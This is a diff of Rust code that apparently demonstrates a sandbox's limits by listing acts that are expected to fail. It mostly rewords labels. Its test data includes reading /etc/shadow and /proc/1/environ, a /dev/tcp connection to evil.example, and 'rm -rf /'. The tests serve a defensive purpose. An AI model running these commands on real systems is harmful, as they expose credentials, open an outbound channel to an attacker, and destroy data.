@@ -77,7 +77,7 @@ fn granted(work: &str) -> String {
     let lines = [
         ("read and write", work),
         ("start", "sh, bash, cat, sleep"),
-        ("reach", "api.github.com, and nobody else"),
+        ("reach", "api.github.com, and no other host"),
         ("calls", "at most 10"),
     ];
     let mut text = format!("{}\n", style::strong("A tool was granted"));
@@ -110,8 +110,13 @@ fn acts(work: &str, secret: &str) -> Vec<Act> {
             "cat /etc/shadow /proc/1/environ".to_owned(),
             fails,
         ),
-        act("It calls a host nobody granted:", "bash", "exec 3<>/dev/tcp/evil.example/443".to_owned(), fails),
-        act("It starts a program nobody granted:", "rm", "-rf /".to_owned(), |answer| answer.is_err()),
+        act(
+            "It calls a host that was not granted:",
+            "bash",
+            "exec 3<>/dev/tcp/evil.example/443".to_owned(),
+            fails,
+        ),
+        act("It starts a program that was not granted:", "rm", "-rf /".to_owned(), |answer| answer.is_err()),
         Act {
             title: "It runs away, with children that ignore signals:",
             program: "sh",
